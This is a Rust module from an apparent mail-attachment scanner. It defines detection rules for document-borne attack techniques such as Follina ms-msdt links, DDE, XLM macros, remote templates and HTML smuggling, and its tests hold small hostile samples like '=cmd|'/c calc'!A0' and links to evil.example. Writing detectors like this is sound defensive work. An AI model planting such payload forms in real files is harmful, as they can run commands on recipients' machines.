//! What makes a file suspicious by what is in it, without being forbidden by itself: each rule with its name, a sentence, and what becomes of
//! mail by it unless the site says otherwise. The lab names its findings by the same rules.

use crate::obfuscation::is_obfuscated;
use crate::walk::kind::Kind;
use crate::walk::{File, pdf, pdf_text};
use crate::{file_name, little_endian::u16_at};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// What becomes of mail that is suspicious, where no lab looks at it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Action {
    /// It is kept.
    Quarantine,
    /// It goes on, and its header says so.
    Header,
    /// It goes on.
    Pass,
}

impl Action {
    /// By name.
    pub fn named(name: &str) -> Option<Action> {
        match name {
            "quarantine" => Some(Action::Quarantine),
            "header" => Some(Action::Header),
            "pass" => Some(Action::Pass),
            _ => None,
        }
    }
}

/// A rule.
#[derive(Debug, Clone, Copy)]
pub struct Rule {
    /// Its name, as in settings and findings.
    pub name: &'static str,
    /// What it found, in words.
    pub about: &'static str,
    /// What becomes of mail by it unless the site says otherwise.
    pub action: Action,
    finds: fn(&File<'_>) -> bool,
}

/// All of them.
pub const RULES: [Rule; 12] = [
    rule("pdf-launch", "a PDF that starts a program", Action::Quarantine, pdf_launch),
    rule("pdf-javascript", "a PDF with a script", Action::Header, pdf_javascript),
    rule("remote-template", "a document that fetches its template from elsewhere", Action::Quarantine, remote_template),
    rule("remote-object", "a document with an object from elsewhere", Action::Quarantine, remote_object),
    rule("msdt", "a link that starts the support tool of Windows (Follina)", Action::Quarantine, msdt),
    rule("dde", "a document that has another program run a command (DDE)", Action::Quarantine, dde),
    rule("xlm", "a workbook with macros of Excel 4", Action::Quarantine, xlm),
    rule("svg-script", "a picture with a script", Action::Quarantine, svg_script),
    rule("html-smuggling", "a page that makes a file by itself and saves it", Action::Quarantine, html_smuggling),
    rule("obfuscated-script", "a script that hides what it does", Action::Quarantine, obfuscated_script),
    rule("search-link", "a page that opens a folder of a stranger's computer", Action::Quarantine, search_link),
    rule("calendar-script", "a calendar with a link that runs something", Action::Quarantine, calendar_script),
];

const fn rule(name: &'static str, about: &'static str, action: Action, finds: fn(&File<'_>) -> bool) -> Rule {
    Rule { name, about, action, finds }
}

/// The rules that find something in this file.
pub fn find(file: &File<'_>) -> impl Iterator<Item = &'static Rule> {
    RULES.iter().filter(move |rule| !file.data.is_empty() && (rule.finds)(file))
}

/// What the site says about suspicion.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SuspicionPolicy {
    /// For all rules; none for what each rule says.
    pub all: Option<Action>,
    /// For single rules, ours and those of YARA, before all else.
    pub rules: BTreeMap<String, Action>,
}

impl SuspicionPolicy {
    /// What becomes of mail by this rule.
    pub fn action(&self, rule: &str, usual: Action) -> Action {
        self.rules.get(rule).copied().or(self.all).unwrap_or(usual)
    }
}

fn has(data: &[u8], word: &str) -> bool {
    memchr::memmem::find(data, word.as_bytes()).is_some()
}

fn name_ends(file: &File<'_>, end: &str) -> bool {
    file.names.iter().any(|name| name.to_ascii_lowercase().ends_with(end))
}

fn name_has(file: &File<'_>, piece: &str) -> bool {
    file.names.iter().any(|name| name.to_ascii_lowercase().replace('\\', "/").contains(piece))
}

fn is_pdf(file: &File<'_>) -> bool {
    file.kind == Kind::Pdf || file.names.iter().any(|name| name == pdf::OBJECTS)
}

/// A name of PDF: what follows is no letter.
fn has_pdf_name(file: &File<'_>, wanted: &str) -> bool {
    if !is_pdf(file) {
        return false;
    }
    let data = pdf_text::plain_names(file.data);
    memchr::memmem::find_iter(&data, wanted.as_bytes())
        .any(|at| !data.get(at + wanted.len()).is_some_and(u8::is_ascii_alphanumeric))
}

fn pdf_launch(file: &File<'_>) -> bool {
    has_pdf_name(file, "/Launch")
}

fn pdf_javascript(file: &File<'_>) -> bool {
    has_pdf_name(file, "/JavaScript") || has_pdf_name(file, "/JS")
}

/// The relationships of a document of today's Office formats, with targets elsewhere.
fn is_external(file: &File<'_>) -> bool {
    name_ends(file, ".rels") && has(file.data, "External")
}

fn remote_template(file: &File<'_>) -> bool {
    let rtf = file.kind == Kind::Rtf
        && memchr::memmem::find_iter(file.data, b"\\*\\template").any(|at| {
            file.data[at + 11..]
                .trim_ascii_start()
                .get(..4)
                .is_some_and(|text| text.eq_ignore_ascii_case(b"http") || text.starts_with(b"\\\\"))
        });
    rtf || (is_external(file) && has(file.data, "attachedTemplate"))
}

fn remote_object(file: &File<'_>) -> bool {
    is_external(file) && (has(file.data, "/oleObject") || has(file.data, "/frame\"") || has(file.data, "mhtml:"))
}

fn msdt(file: &File<'_>) -> bool {
    let known = matches!(file.kind, Kind::Html | Kind::Xml | Kind::Rtf) || name_ends(file, ".rels");
    known && has(&file.data.to_ascii_lowercase(), "ms-msdt:")
}

fn dde(file: &File<'_>) -> bool {
    if name_has(file, "word/") && name_ends(file, ".xml") {
        let text = without_tags(file.data).to_ascii_uppercase();
        return has(&text, "DDEAUTO ") || has(&text, " DDE \"") || has(&text, " DDE C:");
    }
    let csv = name_ends(file, ".csv") && file.data.split(|byte| *byte == b'\n' || *byte == b',').any(is_command);
    csv || (name_has(file, "xl/externallinks/") && has(file.data, "ddeLink"))
}

/// `=cmd|'/c calc'!A0`.
fn is_command(cell: &[u8]) -> bool {
    let cell = cell.trim_ascii().strip_prefix(b"\"").unwrap_or(cell.trim_ascii());
    let formula = matches!(cell.first(), Some(b'=' | b'+' | b'-' | b'@'));
    let pipe = memchr::memchr(b'|', cell).filter(|at| *at > 1);
    formula && pipe.is_some_and(|at| memchr::memchr(b'!', &cell[at..]).is_some() && !cell[..at].contains(&b' '))
}

fn without_tags(data: &[u8]) -> Vec<u8> {
    let mut inside = false;
    let keep = |byte: &&u8| {
        let was = inside;
        inside = **byte == b'<' || (inside && **byte != b'>');
        !was && !inside
    };
    data.iter().filter(keep).copied().collect()
}

fn xlm(file: &File<'_>) -> bool {
    let old = file.names.iter().any(|name| name == "Workbook" || name == "Book") && has_macro_sheet(file.data);
    old || name_has(file, "xl/macrosheets/")
}

/// Records of BIFF: a sheet whose kind is that of macros.
fn has_macro_sheet(data: &[u8]) -> bool {
    const SHEET: u16 = 0x85;
    let mut at = 0;
    for _ in 0..4096 {
        let (Some(kind), Some(length)) = (u16_at(data, at), u16_at(data, at + 2)) else { return false };
        if kind == SHEET && data.get(at + 4 + 5) == Some(&1) {
            return true;
        }
        at += 4 + usize::from(length);
    }
    false
}

fn svg_script(file: &File<'_>) -> bool {
    let svg = name_ends(file, ".svg")
        || file.declared.starts_with("image/svg")
        || has(&file.data[..file.data.len().min(1024)], "<svg");
    let lower = || file.data[..file.data.len().min(4 << 20)].to_ascii_lowercase();
    svg && {
        let text = lower();
        ["<script", "javascript:", " onload=", " onclick=", "<foreignobject"].iter().any(|word| has(&text, word))
    }
}

/// An attachment that is a page; the text of a mail runs no scripts.
fn is_attached_page(file: &File<'_>) -> bool {
    const PAGES: [&str; 7] = ["htm", "html", "xht", "xhtml", "shtml", "svg", "hta"];
    file.names.iter().flat_map(|name| file_name::extensions(name)).any(|own| PAGES.contains(&own.as_str()))
}

fn html_smuggling(file: &File<'_>) -> bool {
    if !is_attached_page(file) {
        return false;
    }
    let text = file.data[..file.data.len().min(4 << 20)].to_ascii_lowercase();
    let makes = ["new blob", "mssaveoropenblob", "mssaveblob", "createobjecturl", "uint8array", "new file("];
    let saves = [".download", "mssave", "download=", "navigator.ms", ".click()", "location.href", "location.replace"];
    has(&text, "<script") && makes.iter().any(|word| has(&text, word)) && saves.iter().any(|word| has(&text, word))
}

/// Scripts, and attached pages with scripts.
fn obfuscated_script(file: &File<'_>) -> bool {
    const SCRIPTS: [&str; 12] = ["bat", "cmd", "hta", "js", "jse", "mjs", "ps1", "psm1", "vbe", "vbs", "wsf", "wsh"];
    let mut extensions = file.names.iter().flat_map(|name| file_name::extensions(name));
    let is_script = extensions.any(|own| SCRIPTS.contains(&own.as_str()))
        || file.kind == Kind::Script
        || file.declared.ends_with("javascript");
    is_script && is_obfuscated(file.data) || is_attached_page(file) && is_obfuscated(&scripts(file.data))
}

/// The scripts of a page, and what its events run.
fn scripts(page: &[u8]) -> Vec<u8> {
    const PAGE_MAX: usize = 4 << 20;
    let page = &page[..page.len().min(PAGE_MAX)];
    let (lower, mut found) = (page.to_ascii_lowercase(), Vec::new());
    let mut rest = 0;
    while let Some(begin) = memchr::memmem::find(&lower[rest..], b"<script") {
        let from = rest + begin;
        let end = memchr::memmem::find(&lower[from..], b"</script").map_or(page.len(), |end| from + end);
        found.extend_from_slice(&page[from..end]);
        rest = end.max(from + 7);
    }
    for event in ["onload=", "onerror=", "javascript:"] {
        for at in memchr::memmem::find_iter(&lower, event.as_bytes()).take(100) {
            found.push(b'\n');
            found.extend_from_slice(&page[at..page.len().min(at + 4096)]);
        }
    }
    found
}

fn search_link(file: &File<'_>) -> bool {
    let page = matches!(file.kind, Kind::Html) || is_attached_page(file);
    page && {
        let text = file.data[..file.data.len().min(4 << 20)].to_ascii_lowercase();
        has(&text, "search-ms:") || has(&text, "ms-officecmd:") || has(&text, "ms-appinstaller:")
    }
}

fn calendar_script(file: &File<'_>) -> bool {
    file.kind == Kind::Calendar && {
        let text = file.data.to_ascii_lowercase();
        has(&text, "javascript:") || has(&text, "ms-msdt:") || has(&text, "action:procedure")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(name: &str, declared: &str, data: &[u8]) -> Vec<&'static str> {
        let names = [name.to_owned()];
        let file = File { names: &names, declared, kind: Kind::of(data), data, in_archive: false };
        find(&file).map(|rule| rule.name).collect()
    }

    /// The rule, a file that it must find, and one like it that it must not.
    type Example = (&'static str, (&'static str, Vec<u8>), (&'static str, Vec<u8>));

    fn workbook(kind: u8) -> Vec<u8> {
        [&[0x09, 0x08, 2, 0, 0, 6, 0x85, 0, 8, 0, 0, 0, 0, 0, 0][..], &[kind, 0, b'A']].concat()
    }

    fn examples() -> Vec<Example> {
        let text = |text: &str| text.as_bytes().to_vec();
        let rels = |kind: &str, mode: &str| {
            text(&format!(
                "<Relationship Type=\"http://x/{kind}\" Target=\"http://evil.example/a!\" TargetMode=\"{mode}\"/>"
            ))
        };
        vec![
            (
                "pdf-launch",
                ("a.pdf", text("%PDF-1.4 <</S /L#61unch /F (x)>>")),
                ("a.pdf", text("%PDF-1.4 <</S /URI /Launched 1>>")),
            ),
            (
                "pdf-javascript",
                ("a.pdf", text("%PDF-1.4 <</S/JavaScript/JS(x)>>")),
                ("a.pdf", text("%PDF-1.4 <</S /GoTo>> /JSON")),
            ),
            (
                "remote-template",
                ("word/_rels/settings.xml.rels", rels("attachedTemplate", "External")),
                ("word/_rels/settings.xml.rels", rels("hyperlink", "External")),
            ),
            (
                "remote-template",
                ("a.rtf", text("{\\rtf1{\\*\\template http://evil.example/a}}")),
                ("a.rtf", text("{\\rtf1{\\*\\template Normal.dotm}}")),
            ),
            (
                "remote-object",
                ("word/_rels/document.xml.rels", rels("oleObject", "External")),
                ("word/_rels/document.xml.rels", rels("oleObject", "Internal")),
            ),
            (
                "msdt",
                ("a.html", text("<html><script>location.href='ms-msdt:/id PCWDiagnostic'</script>")),
                ("a.html", text("<html>msdt is a tool</html>")),
            ),
            (
                "dde",
                ("word/document.xml", text("<w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\x</w:instrText>")),
                ("word/document.xml", text("<w:t>Paddeauto</w:t>")),
            ),
            ("dde", ("a.csv", text("1,2\n=cmd|'/c calc'!A0,3\n")), ("a.csv", text("a|b!c,=1+2\n-5,x|y\n"))),
            ("xlm", ("Workbook", workbook(1)), ("Workbook", workbook(0))),
            ("xlm", ("xl/macrosheets/sheet1.xml", text("<x/>")), ("xl/worksheets/sheet1.xml", text("<x/>"))),
            (
                "svg-script",
                ("a.svg", text("<svg><script>1</script></svg>")),
                ("a.svg", text("<svg><path d='M0 0'/></svg>")),
            ),
            (
                "html-smuggling",
                (
                    "a.html",
                    text("<html><script>var b=new Blob([x]);a.href=URL.createObjectURL(b);a.download='x'</script>"),
                ),
                ("a.html", text("<html><script>console.log('download')</script>")),
            ),
            (
                "obfuscated-script",
                ("a.html", text("<html><body><script>document.write(unescape('%3Cform%3E'))</script></body></html>")),
                ("a.html", text("<html><script>document.write(year)</script><p>eval(unescape(x)) is bad</p></html>")),
            ),
            (
                "search-link",
                ("a.html", text("<html><a href='search-ms:query=x&crumb=location:\\\\evil'>")),
                ("a.html", text("<html><a href='https://search.example'>")),
            ),
            (
                "calendar-script",
                ("a.ics", text("BEGIN:VCALENDAR\nURL:javascript:x\n")),
                ("a.ics", text("BEGIN:VCALENDAR\nURL:https://x\n")),
            ),
        ]
    }

    #[test]
    fn each_rule_finds_the_bad_and_lets_the_good_be() {
        for (rule, (bad, hostile), (good, usual)) in examples() {
            assert!(found(bad, "", &hostile).contains(&rule), "{rule} does not find {bad}");
            assert!(!found(good, "", &usual).contains(&rule), "{rule} finds {good}");
        }
        let tried: std::collections::BTreeSet<&str> = examples().iter().map(|(rule, _, _)| *rule).collect();
        assert!(RULES.iter().all(|rule| tried.contains(rule.name)), "every rule has its examples");
    }

    #[test]
    fn the_site_has_the_last_word() {
        let mut policy = SuspicionPolicy::default();
        assert_eq!(policy.action("xlm", Action::Quarantine), Action::Quarantine);
        policy.all = Some(Action::Pass);
        policy.rules.insert("xlm".into(), Action::Header);
        assert_eq!(policy.action("xlm", Action::Quarantine), Action::Header);
        assert_eq!(policy.action("dde", Action::Quarantine), Action::Pass);
    }
}
